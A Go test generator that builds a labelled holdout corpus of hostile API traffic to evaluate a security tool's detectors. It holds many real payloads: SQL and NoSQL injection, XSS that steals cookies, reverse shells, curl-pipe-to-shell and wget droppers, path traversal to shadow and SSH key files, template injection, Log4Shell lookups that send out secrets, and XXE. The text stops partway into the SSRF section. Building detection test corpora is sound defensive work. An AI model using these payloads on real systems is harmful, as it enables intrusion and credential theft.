package detect_test

// The holdout corpus: a labelled set of API exchanges written independently of
// the detectors (their code, tests and own corpus were not read), from the
// techniques docs/detect.md says each detector covers and from payloads that
// attackers, pentest tools (sqlmap, Burp, nuclei, ffuf), public payload lists
// and LLM-driven fuzzers really send. It exists to measure how the detectors
// generalise; it runs no detector itself.
//
//	go test ./detect/ -run TestHoldoutGenerate -update-holdout
//
// rewrites testdata/holdout/traffic.jsonl and labels.jsonl; without the flag
// the test checks that the files equal what this generator produces.

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"net/http"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"time"

	vigil "github.com/vigilsec/vigil"
)

var updateHoldout = flag.Bool("update-holdout", false, "rewrite testdata/holdout/*.jsonl from the holdout generator")

const (
	holdSQLi      = "detect.injection.sqli"
	holdXSS       = "detect.injection.xss"
	holdOther     = "detect.injection.other"
	holdSSRF      = "detect.ssrf"
	holdJWTDet    = "detect.auth.jwt"
	holdVerbose   = "detect.misconfig.verbose"
	holdSensitive = "detect.exposure.sensitive"
	holdLimits    = "detect.resource.limits"
)

// holdCase is one exchange before it is dressed with ids, times, addresses
// and default headers.
type holdCase struct {
	method  string
	url     string
	hdr     []string // name, value, name, value...
	body    string
	reqSize int64 // 0: len(body)
	status  int
	rhdr    []string
	rbody   string
	rsize   int64 // 0: len(rbody)
	labels  []string
}

func holdReq(method, u, body string, hdr ...string) holdCase {
	return holdCase{method: method, url: u, body: body, hdr: hdr, status: 200}
}

func holdGET(u string, hdr ...string) holdCase { return holdReq("GET", u, "", hdr...) }

func holdJSONReq(method, u, body string, hdr ...string) holdCase {
	return holdReq(method, u, body, append([]string{"Content-Type", "application/json"}, hdr...)...)
}

func holdFormReq(method, u, body string, hdr ...string) holdCase {
	return holdReq(method, u, body, append([]string{"Content-Type", "application/x-www-form-urlencoded"}, hdr...)...)
}

func (c holdCase) resp(status int, body string, hdr ...string) holdCase {
	c.status, c.rbody, c.rhdr = status, body, hdr
	return c
}

func (c holdCase) label(l ...string) holdCase {
	c.labels = l
	return c
}

func (c holdCase) with(hdr ...string) holdCase {
	c.hdr = append(append([]string(nil), c.hdr...), hdr...)
	return c
}

func holdPick[T any](list []T, n int) T {
	if n < 0 {
		n = -n
	}
	return list[n%len(list)]
}

// holdJS quotes s as a JSON string the way JSON.stringify does (no HTML
// escaping).
func holdJS(s string) string {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(s); err != nil {
		panic(err)
	}
	return strings.TrimSuffix(b.String(), "\n")
}

func holdQE(s string) string { return url.QueryEscape(s) }
func holdPE(s string) string { return url.PathEscape(s) }

// holdBrowserEsc encodes a query value roughly as a browser's address bar
// does: spaces as %20, quotes and angle brackets encoded, ' ( ) , ; = : / kept.
func holdBrowserEsc(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c <= ' ' || c >= 0x7f || strings.IndexByte("\"<>#%&+`{}|\\^[]", c) >= 0:
			fmt.Fprintf(&b, "%%%02X", c)
		default:
			b.WriteByte(c)
		}
	}
	return b.String()
}

// holdRawPrefix marks a payload that is already URL-encoded (a double or
// overlong encoding, %u escapes): it goes into query strings as it is.
const holdRawPrefix = "raw:"

func holdQ(p string, browser bool) string {
	if raw, ok := strings.CutPrefix(p, holdRawPrefix); ok {
		return raw
	}
	if browser {
		return holdBrowserEsc(p)
	}
	return holdQE(p)
}

func holdPlain(p string) string {
	if raw, ok := strings.CutPrefix(p, holdRawPrefix); ok {
		if s, err := url.QueryUnescape(raw); err == nil {
			return s
		}
		return raw
	}
	return p
}

var holdHosts = []string{"api.example.test", "api.example.test", "shop-api.example.test", "api.example.test", "accounts.example.test", "cms.example.test", "billing.example.test"}

var holdGenericNames = []string{"q", "search", "id", "name", "sort", "filter", "category", "email", "ref", "title", "comment", "query", "keyword", "user", "note"}

// holdInject places an injection payload where real APIs carry data: query
// parameters (form- and browser-style encoding), path segments, form and
// multipart bodies, JSON at several depths and in arrays, and the client
// headers that carry data.
func holdInject(n int, p string, names []string) holdCase {
	if names == nil {
		names = holdGenericNames
	}
	name := holdPick(names, n*7+n/13)
	host := holdPick(holdHosts, n*3)
	plain := holdPlain(p)
	switch n % 14 {
	case 0:
		return holdGET(fmt.Sprintf("https://%s/api/v1/products?%s=%s&page=1", host, name, holdQ(p, false)))
	case 1:
		return holdGET(fmt.Sprintf("https://%s/v2/search?%s=%s&limit=20", host, name, holdQ(p, true)))
	case 2:
		if strings.HasPrefix(p, holdRawPrefix) {
			return holdGET(fmt.Sprintf("https://%s/api/v2/items/lookup?%s=%s", host, name, p[len(holdRawPrefix):]))
		}
		return holdGET(fmt.Sprintf("https://%s/api/v2/orders/%s", host, holdPE(p)))
	case 3:
		return holdFormReq("POST", fmt.Sprintf("https://%s/api/v1/session", host),
			fmt.Sprintf("%s=%s&password=Winter2026%%21&remember=1", name, holdQ(p, false)))
	case 4:
		return holdJSONReq("POST", fmt.Sprintf("https://%s/api/v1/auth/login", host),
			fmt.Sprintf(`{"%s":%s,"password":"correct-horse-battery","client":"web"}`, name, holdJS(plain)))
	case 5:
		return holdJSONReq("POST", fmt.Sprintf("https://%s/api/v2/orders/search", host),
			fmt.Sprintf(`{"filter":{"customer":{"%s":%s},"status":"paid"},"page":1,"per_page":25}`, name, holdJS(plain)))
	case 6:
		return holdJSONReq("PUT", fmt.Sprintf("https://%s/api/v1/products/1842", host),
			fmt.Sprintf(`{"name":"Desk lamp","tags":["home","office",%s],"price":39.9}`, holdJS(plain)))
	case 7:
		return holdGET(fmt.Sprintf("https://%s/api/v1/catalog/featured", host), "User-Agent", plain)
	case 8:
		return holdGET(fmt.Sprintf("https://%s/api/v1/cart", host), "Referer", plain)
	case 9:
		if (n/14)%2 == 0 {
			return holdGET(fmt.Sprintf("https://%s/api/v1/stores/nearby?lat=52.37&lng=4.89", host), "X-Forwarded-For", plain)
		}
		return holdGET(fmt.Sprintf("https://%s/api/v1/account", host), "X-Api-Version", plain)
	case 10:
		return holdGET(fmt.Sprintf("https://%s/api/v1/recommendations", host),
			"Cookie", fmt.Sprintf("sid=7f3e9a2b1c4d5e6f; %s=%s; consent=1", name, holdQ(p, false)))
	case 11:
		return holdJSONReq("PATCH", fmt.Sprintf("https://%s/api/v1/users/me", host),
			fmt.Sprintf(`{"profile":{"display_name":"Sam","addresses":[{"line1":"12 Main St","%s":%s,"zip":"10115"}]}}`, name, holdJS(plain)))
	case 12:
		body := "--holdBoundary7MA4YWxk\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + plain +
			"\r\n--holdBoundary7MA4YWxk\r\nContent-Disposition: form-data; name=\"priority\"\r\n\r\nnormal\r\n--holdBoundary7MA4YWxk--\r\n"
		return holdReq("POST", fmt.Sprintf("https://%s/api/v1/support/tickets", host), body,
			"Content-Type", "multipart/form-data; boundary=holdBoundary7MA4YWxk")
	default:
		return holdGET(fmt.Sprintf("https://%s/api/v3/reports/export?format=csv&%s=%s", host, name, holdQ(p, n%2 == 0)))
	}
}

// holdAttackResp gives an attack a plausible answer that says nothing more:
// empty results, a validation error, a WAF-less 500 with only a request id.
func holdAttackResp(c holdCase, n int) holdCase {
	switch n % 7 {
	case 0, 3:
		return c.resp(200, `{"items":[],"total":0,"page":1}`)
	case 1:
		return c.resp(400, `{"error":"invalid_request","message":"The request could not be processed."}`)
	case 2:
		return c.resp(404, `{"error":"not_found"}`)
	case 4:
		return c.resp(500, fmt.Sprintf(`{"error":"internal_error","request_id":"req_%06x"}`, n*7919))
	case 5:
		return c.resp(401, `{"error":"unauthorized"}`)
	default:
		return c.resp(200, `{"ok":true}`)
	}
}

// ---------------------------------------------------------------------------
// detect.injection.sqli

var holdSQLiPayloads = []string{
	// classic tautologies and login bypass (payload lists, manual testing)
	`' OR '1'='1`,
	`' OR 1=1-- -`,
	`admin'--`,
	`admin' #`,
	`') OR ('1'='1`,
	`" OR ""="`,
	`' OR 'x'='x`,
	`admin' or 1=1 or ''='`,
	`1 OR 1=1`,
	`' OR ''='`,
	`1%' AND 1=1 AND '%'='`,
	// boolean blind (sqlmap style)
	`1 AND 1=2`,
	`1) AND 8514=8514 AND (3077=3077`,
	`1' AND 5731=5731 AND 'sNbQ'='sNbQ`,
	`' AND SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1)='a`,
	`1' AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>64--`,
	`1 RLIKE (SELECT (CASE WHEN (4346=4346) THEN 1 ELSE 0x28 END))`,
	`' OR EXISTS(SELECT * FROM users WHERE role='admin')--`,
	// time based blind: MySQL, PostgreSQL, MSSQL, Oracle, SQLite
	`1' AND SLEEP(5)#`,
	`1' AND (SELECT 4721 FROM (SELECT(SLEEP(5)))abc)-- xyz`,
	`1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)`,
	`1' AND BENCHMARK(5000000,MD5(1))#`,
	`1) OR pg_sleep(5)--`,
	`1;SELECT pg_sleep(10)`,
	`1'||pg_sleep(5)--`,
	`1; WAITFOR DELAY '0:0:5'--`,
	`1' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--`,
	`1 AND 1=randomblob(500000000)`,
	// union based
	`' UNION SELECT NULL,NULL,NULL--`,
	`-1 UNION ALL SELECT username,password FROM users--`,
	`' UNION SELECT table_name,NULL FROM information_schema.tables--`,
	`-1' UNION SELECT 1,group_concat(column_name),3 FROM information_schema.columns WHERE table_name='users'--+`,
	`1 UNION SELECT null,version()--`,
	`1' UNION SELECT @@version,user(),database()#`,
	`0 UNION SELECT 1,load_file(0x2f6574632f686f73746e616d65),3`,
	// error based
	`1 AND extractvalue(1,concat(0x7e,(select @@version)))`,
	`1' AND updatexml(1,concat(0x7e,(SELECT user())),1)-- -`,
	`' AND 1=CONVERT(int,@@version)--`,
	`1' AND 9284=CAST((CHR(113)||CHR(122)||(SELECT (CASE WHEN (9284=9284) THEN 1 ELSE 0 END))::text) AS NUMERIC) AND 'a'='a`,
	`1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)`,
	// stacked queries
	`1'; DROP TABLE users;--`,
	`'; INSERT INTO users(email,role) VALUES('x@evil.test','admin');--`,
	`1; UPDATE accounts SET balance=1000000 WHERE id=1;--`,
	`'; EXEC xp_cmdshell('whoami')--`,
	`"; SELECT * FROM information_schema.tables; --`,
	// ORDER BY / column enumeration and sort-parameter injection
	`1' ORDER BY 10--`,
	`name,(SELECT CASE WHEN (1=1) THEN name ELSE price END)`,
	`(CASE WHEN (SELECT substring(version(),1,1))='8' THEN id ELSE price END)`,
	// comment and case obfuscation, WAF evasion
	`1/**/UNION/**/SELECT/**/1,2,3`,
	`1'/**/oR/**/1=1#`,
	`1' UnIoN SeLeCt 1,2,3-- -`,
	`1'/*!50000UNION*//*!50000SELECT*/1,2,3-- -`,
	`1'%0AOR%0A1=1--`,
	`' or sqlite_version()>0--`,
	`'||(SELECT CHAR(113)||CHAR(106))||'`,
	// URL-encoded, double-encoded and %u-encoded in the query string
	holdRawPrefix + `%27%20OR%201%3D1--%20-`,
	holdRawPrefix + `%2527%2520OR%25201%253D1--`,
	holdRawPrefix + `%u0027%20OR%201%3D1--`,
	holdRawPrefix + `1%27%20AND%20SLEEP%285%29%23`,
	holdRawPrefix + `-1%20UNION%20SELECT%20NULL%2CNULL%2Cconcat%28username%2C0x3a%2Cpassword%29%20FROM%20users--`,
	// Oracle out of band
	`1 AND UTL_INADDR.get_host_name((SELECT user FROM dual)) IS NOT NULL`,
}

func holdSQLiCases() []holdCase {
	var out []holdCase
	for i, p := range holdSQLiPayloads {
		out = append(out, holdAttackResp(holdInject(i, p, nil), i).label(holdSQLi))
	}
	// JSON numbers turned strings, GraphQL variables, JSON arrays of ids.
	extra := []holdCase{
		holdJSONReq("POST", "https://api.example.test/graphql",
			`{"query":"query Product($id: ID!) { product(id: $id) { name price } }","variables":{"id":"1 UNION SELECT password FROM users--"}}`),
		holdJSONReq("POST", "https://api.example.test/api/v1/cart/items",
			`{"items":[{"product_id":"7","qty":1},{"product_id":"8' AND SLEEP(5)-- -","qty":1}]}`),
		holdJSONReq("POST", "https://shop-api.example.test/api/v2/reports",
			`{"report":{"range":{"from":"2026-01-01","to":"2026-02-01' OR '1'='1"}},"group":"day"}`),
		holdGET("https://api.example.test/api/v1/users?order=email%20desc%3B%20SELECT%20pg_sleep(7)--", "User-Agent", "sqlmap/1.8.2#stable (https://sqlmap.org)"),
		holdFormReq("POST", "https://accounts.example.test/api/v1/password/forgot", "email=a%40b.test%27%20AND%201%3D1%20UNION%20SELECT%201%2C2--&submit=Send"),
		holdJSONReq("POST", "https://api.example.test/api/v1/auth/login", `{"email":"admin@example.test' -- ","password":"x"}`),
	}
	for j, c := range extra {
		out = append(out, holdAttackResp(c, j+3).label(holdSQLi))
	}
	return out
}

// ---------------------------------------------------------------------------
// detect.injection.xss

var holdXSSPayloads = []string{
	// script tags, case and nesting tricks
	`<script>alert(1)</script>`,
	`"><script>alert(document.cookie)</script>`,
	`<ScRiPt>prompt(1)</sCrIpT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`</script><script>alert(1)</script>`,
	`<script src=https://evil.test/x.js></script>`,
	`<script>fetch('//evil.test/'+localStorage.token)</script>`,
	`<svg><script>alert&#40;1&#41;</script>`,
	// event handlers (PortSwigger cheat sheet)
	`<img src=x onerror=alert(1)>`,
	`'><img src=x onerror=fetch('https://evil.test/?c='+document.cookie)>`,
	`<img src=1 oNeRrOr=alert` + "`1`" + `>`,
	`<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>`,
	`<img src="x" onerror="eval(atob('YWxlcnQoMSk='))">`,
	`<img src=x onerror=alert(String.fromCharCode(88,83,83))>`,
	`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
	`<body onload=alert(1)>`,
	`<body onpageshow=alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<input autofocus onfocus=alert(1)>`,
	`<select autofocus onfocus=alert(1)>`,
	`<textarea autofocus onfocus=alert(1)>`,
	`<marquee onstart=alert(1)>`,
	`<video><source onerror=alert(1)>`,
	`<audio src=x onerror=alert(1)>`,
	`<x onclick=alert(1)>click me`,
	`"onmouseover="alert(1)`,
	`' autofocus onfocus='alert(1)`,
	`<isindex type=image src=1 onerror=alert(1)>`,
	// SVG
	`<svg onload=alert(document.domain)>`,
	`<svg/onload=alert(1)>`,
	`<svg onload=alert&lpar;1&rpar;>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
	// script URLs in links, frames, forms
	`javascript:alert(1)`,
	`JaVaScRiPt:alert(document.cookie)`,
	`javascript://%0aalert(1)`,
	`java&#x09;script:alert(1)`,
	`vbscript:msgbox(1)`,
	`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
	`data:text/html,<script>alert(1)</script>`,
	`<a href="javascript:alert(1)">click</a>`,
	`<a href="&#106;avascript:alert(1)">x</a>`,
	`<iframe src="javascript:alert(1)">`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<object data="javascript:alert(1)">`,
	`<embed src="data:text/html,<script>alert(1)</script>">`,
	`<form action="javascript:alert(1)"><input type=submit>`,
	`<button formaction=javascript:alert(1)>x</button>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="javascript:alert(1)//">`,
	// mutation XSS and polyglots
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
	`'"--></style></script><svg onload=alert(1)>`,
	// URL encodings in the query string
	holdRawPrefix + `%3Cscript%3Ealert(1)%3C%2Fscript%3E`,
	holdRawPrefix + `%253Csvg%2520onload%253Dalert(1)%253E`,
	holdRawPrefix + `%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E`,
	holdRawPrefix + `%u003Cscript%u003Ealert(1)%u003C/script%u003E`,
}

func holdXSSCases() []holdCase {
	names := []string{"comment", "display_name", "q", "bio", "title", "message", "redirect", "return_url", "website", "name", "review", "callback"}
	var out []holdCase
	for i, p := range holdXSSPayloads {
		out = append(out, holdAttackResp(holdInject(i+5, p, names), i).label(holdXSS))
	}
	extra := []holdCase{
		// JSON unicode escapes of a script tag
		holdJSONReq("POST", "https://api.example.test/api/v1/reviews", `{"product_id":31,"rating":5,"body":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`),
		// stored XSS through an uploaded SVG avatar
		holdReq("POST", "https://api.example.test/api/v1/users/me/avatar",
			"--b1\r\nContent-Disposition: form-data; name=\"file\"; filename=\"avatar.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n<?xml version=\"1.0\" standalone=\"no\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"64\"><circle r=\"30\"/><script type=\"text/javascript\">alert(document.domain)</script></svg>\r\n--b1--\r\n",
			"Content-Type", "multipart/form-data; boundary=b1"),
		// open redirect turned XSS in an OAuth-like flow
		holdGET("https://accounts.example.test/api/v1/oauth/authorize?client_id=web&response_type=code&redirect_uri=javascript%3Aalert(document.domain)%2F%2F"),
		// file name carrying markup
		holdReq("POST", "https://cms.example.test/api/v1/media",
			"--b2\r\nContent-Disposition: form-data; name=\"file\"; filename=\"<img src=x onerror=alert(1)>.png\"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--b2--\r\n",
			"Content-Type", "multipart/form-data; boundary=b2"),
		// rich text editor field
		holdJSONReq("PUT", "https://cms.example.test/api/v1/pages/about", `{"title":"About us","blocks":[{"type":"html","html":"<p>Our story</p><img src=\"/a.png\" onload=\"fetch('https://evil.test/k?'+document.cookie)\">"}]}`),
		// GraphQL mutation variable
		holdJSONReq("POST", "https://api.example.test/graphql", `{"query":"mutation($n:String!){updateProfile(name:$n){id}}","variables":{"n":"<svg/onload=alert(1)>"}}`),
	}
	for j, c := range extra {
		out = append(out, holdAttackResp(c, j).label(holdXSS))
	}
	return out
}

// ---------------------------------------------------------------------------
// detect.injection.other: command injection

var holdCmdPayloads = []string{
	`; cat /etc/passwd`,
	`| id`,
	`&& whoami`,
	`$(whoami)`,
	"`id`",
	`;${IFS}cat${IFS}/etc/passwd`,
	`8.8.8.8; ls -la /`,
	"example.com\nid",
	holdRawPrefix + `example.com%0Auname%20-a`,
	`x || sleep 10 ||`,
	`;nc -e /bin/sh 198.51.100.66 4444`,
	`;bash -i >& /dev/tcp/198.51.100.23/443 0>&1`,
	`$(curl -s http://evil.test/p.sh|sh)`,
	`;{cat,/etc/passwd}`,
	`;/???/c?t /e??/p?ss??`,
	`& type C:\Windows\win.ini`,
	`| powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA`,
	`report.pdf; rm -rf /tmp/*`,
	`"; sleep 5; echo "`,
	`a';wget http://evil.test/m -O /tmp/m;chmod +x /tmp/m;/tmp/m;'`,
}

// detect.injection.other: path traversal
var holdTraversalPayloads = []string{
	`../../../../etc/passwd`,
	`../../../../../../etc/shadow`,
	`..\..\..\..\windows\win.ini`,
	`....//....//....//etc/passwd`,
	`....\/....\/....\/etc/hosts`,
	`/var/www/images/../../../etc/passwd`,
	`../../../../proc/self/environ`,
	`../../../../root/.ssh/id_rsa`,
	`../../../../../app/.env`,
	`../../../WEB-INF/web.xml`,
	holdRawPrefix + `..%2f..%2f..%2f..%2fetc%2fpasswd`,
	holdRawPrefix + `%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd`,
	holdRawPrefix + `..%252f..%252f..%252fetc%252fpasswd`,
	holdRawPrefix + `%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fshadow`,
	holdRawPrefix + `%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd`,
	holdRawPrefix + `..%c0%af..%c0%af..%c0%afetc%c0%afpasswd`,
	holdRawPrefix + `..%5c..%5c..%5c..%5cwindows%5cwin.ini`,
	holdRawPrefix + `%u002e%u002e/%u002e%u002e/%u002e%u002e/etc/passwd`,
	holdRawPrefix + `../../../../etc/passwd%00.png`,
}

// detect.injection.other: server-side template injection
var holdSSTIPayloads = []string{
	// Jinja2 / Flask
	`{{7*'7'}}`,
	`{{config.items()}}`,
	`{{ ''.__class__.__mro__[1].__subclasses__() }}`,
	`{{cycler.__init__.__globals__.os.popen('id').read()}}`,
	`{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}`,
	// Twig
	`{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}`,
	`{{['id']|filter('system')}}`,
	// Freemarker
	`<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}`,
	`${"freemarker.template.utility.Execute"?new()("whoami")}`,
	// Velocity
	`#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()`,
	// ERB
	`<%= 7*7 %>`,
	`<%= system('cat /etc/hostname') %>`,
	"<%= `id` %>",
	// Thymeleaf / Spring EL
	`__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x`,
	`*{T(java.lang.Runtime).getRuntime().exec('whoami')}`,
	`${T(java.lang.System).getenv()}`,
	// Smarty, generic probes
	`{system('id')}`,
	`${7*7}`,
	`#{7*7}`,
}

// detect.injection.other: Log4Shell / JNDI lookups, plain and obfuscated
var holdLog4jPayloads = []string{
	`${jndi:ldap://198.51.100.77:1389/a}`,
	`${jndi:rmi://evil.test:1099/Exploit}`,
	`${jndi:dns://c6r2k3.oast.test/a}`,
	`${jndi:ldaps://evil.test/o=tomcat}`,
	`${${lower:j}ndi:${lower:l}dap://evil.test/a}`,
	`${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.test/a}`,
	`${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.test/a}`,
	`${jndi:${lower:l}${lower:d}a${lower:p}://evil.test/a}`,
	`${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.test/a}`,
	`${${upper:j}ndi:${upper:l}${upper:d}ap://evil.test/x}`,
	`${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.c6r2k3.oast.test/a}`,
	`${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.test/a}`,
	holdRawPrefix + `%24%7Bjndi%3Aldap%3A%2F%2Fevil.test%2Fa%7D`,
}

// detect.injection.other: NoSQL operator injection is written per request
// below (JSON objects and form/query bracket syntax).

// detect.injection.other: XXE bodies
var holdXXEBodies = []string{
	`<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<order><id>1001</id><note>&xxe;</note></order>`,
	`<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.test/evil.dtd"> %xxe;]>
<stockCheck><productId>3</productId></stockCheck>`,
	`<?xml version="1.0"?>
<!DOCTYPE data [
  <!ENTITY % file SYSTEM "file:///etc/hostname">
  <!ENTITY % dtd SYSTEM "http://evil.test/oob.dtd">
  %dtd;
]>
<data>&send;</data>`,
	`<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.test/x.dtd"><r><q>shoes</q></r>`,
	`<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">]>
<user><name>&xxe;</name></user>`,
	`<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol4;</lolz>`,
	`<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>`,
	`<?xml version="1.0"?>
<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">
<soap:Body><GetOrder xmlns="urn:shop"><OrderId>&xxe;</OrderId></GetOrder></soap:Body></soap:Envelope>`,
	`<?xml version="1.0" standalone="yes"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>
<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" version="1.1"><text font-size="16" x="0" y="16">&xxe;</text></svg>`,
	`<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "expect://id">]>
<r>&xxe;</r>`,
}

func holdOtherCases() []holdCase {
	var out []holdCase
	add := func(c holdCase, n int) { out = append(out, holdAttackResp(c, n).label(holdOther)) }
	cmdNames := []string{"host", "domain", "filename", "ip", "target", "file", "name", "cmd", "path"}
	for i, p := range holdCmdPayloads {
		add(holdInject(i*3, p, cmdNames), i)
	}
	travNames := []string{"file", "path", "template", "download", "doc", "page", "include", "filename", "lang"}
	for i, p := range holdTraversalPayloads {
		if i%4 == 0 && !strings.HasPrefix(p, holdRawPrefix) {
			add(holdGET("https://api.example.test/api/v1/files/download?file="+holdQE(p)), i)
			continue
		}
		add(holdInject(i*5+1, p, travNames), i)
	}
	// traversal in path segments, as proxies and frameworks see them
	for i, u := range []string{
		"https://api.example.test/api/v1/files/..%2F..%2F..%2F..%2Fetc%2Fpasswd",
		"https://cms.example.test/static/..;/..;/WEB-INF/web.xml",
		"https://api.example.test/api/v1/attachments/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
		"https://api.example.test/api/v2/exports/..%252f..%252f..%252fetc%252fpasswd",
	} {
		add(holdGET(u), i)
	}
	sstiNames := []string{"name", "greeting", "subject", "template", "message", "first_name", "title", "email"}
	for i, p := range holdSSTIPayloads {
		add(holdInject(i*3+2, p, sstiNames), i)
	}
	logNames := []string{"username", "q", "email", "search", "x"}
	for i, p := range holdLog4jPayloads {
		add(holdInject(i*5+7, p, logNames), i)
	}
	for i, p := range []string{`${jndi:ldap://evil.test:1389/Basic/Command/Base64/aWQ=}`, `${${lower:jndi}:${lower:rmi}://198.51.100.77/poc}`} {
		add(holdGET("https://api.example.test/api/v1/health", "X-Api-Version", p, "User-Agent", p), i)
	}
	// NoSQL operators in JSON and in bracket syntax
	for i, c := range []holdCase{
		holdJSONReq("POST", "https://accounts.example.test/api/v1/auth/login", `{"email":"admin@example.test","password":{"$ne":null}}`),
		holdJSONReq("POST", "https://accounts.example.test/api/v1/auth/login", `{"username":{"$gt":""},"password":{"$gt":""}}`),
		holdJSONReq("POST", "https://accounts.example.test/api/v1/auth/login", `{"username":"admin","password":{"$regex":"^a"}}`),
		holdJSONReq("POST", "https://api.example.test/api/v1/users/search", `{"$where":"this.password.length > 0"}`),
		holdJSONReq("POST", "https://api.example.test/api/v1/orders/query", `{"filter":{"$where":"sleep(5000) || true"}}`),
		holdJSONReq("POST", "https://api.example.test/api/v1/products/query", `{"filter":{"$expr":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}}`),
		holdJSONReq("POST", "https://accounts.example.test/api/v1/password/reset", `{"token":{"$ne":""},"new_password":"Pwned2026!"}`),
		holdJSONReq("POST", "https://accounts.example.test/api/v1/auth/login", `{"login":{"$regex":".*"},"password":{"$ne":"x"}}`),
		holdJSONReq("POST", "https://accounts.example.test/api/v1/auth/login", `{"email":{"$in":["admin@example.test","root@example.test"]},"password":{"$exists":true}}`),
		holdFormReq("POST", "https://accounts.example.test/api/v1/session", "username=admin&password%5B%24ne%5D=x"),
		holdFormReq("POST", "https://accounts.example.test/api/v1/session", "username[$regex]=^adm&password[$ne]=1"),
		holdGET("https://api.example.test/api/v1/users?email[$ne]=&password[$ne]="),
		holdGET("https://api.example.test/api/v1/users?username%5B%24gt%5D=&password%5B%24gt%5D="),
		holdGET("https://api.example.test/api/v1/accounts?api_key[$exists]=true&role[$ne]=user"),
	} {
		add(c, i)
	}
	// XXE in XML, SOAP and SVG bodies
	xmlTargets := []struct{ u, ct string }{
		{"https://api.example.test/api/v1/orders/import", "application/xml"},
		{"https://api.example.test/api/v1/stock/check", "text/xml"},
		{"https://billing.example.test/api/v1/invoices/upload", "application/xml"},
		{"https://api.example.test/api/v1/search", "application/xml"},
		{"https://accounts.example.test/api/v1/users/import", "text/xml"},
		{"https://api.example.test/api/v1/feeds", "application/xml"},
		{"https://api.example.test/api/v1/sync", "application/xml"},
		{"https://billing.example.test/soap/OrderService", "text/xml; charset=utf-8"},
		{"https://cms.example.test/api/v1/media/avatar.svg", "image/svg+xml"},
		{"https://api.example.test/api/v1/xml/echo", "application/xml"},
	}
	for i, b := range holdXXEBodies {
		t := xmlTargets[i%len(xmlTargets)]
		c := holdReq("POST", t.u, b, "Content-Type", t.ct)
		if strings.Contains(t.u, "soap") {
			c = c.with("Soapaction", `"urn:shop/GetOrder"`)
		}
		add(c, i)
	}
	return out
}

// ---------------------------------------------------------------------------
// detect.ssrf

var holdSSRFValues = []string{
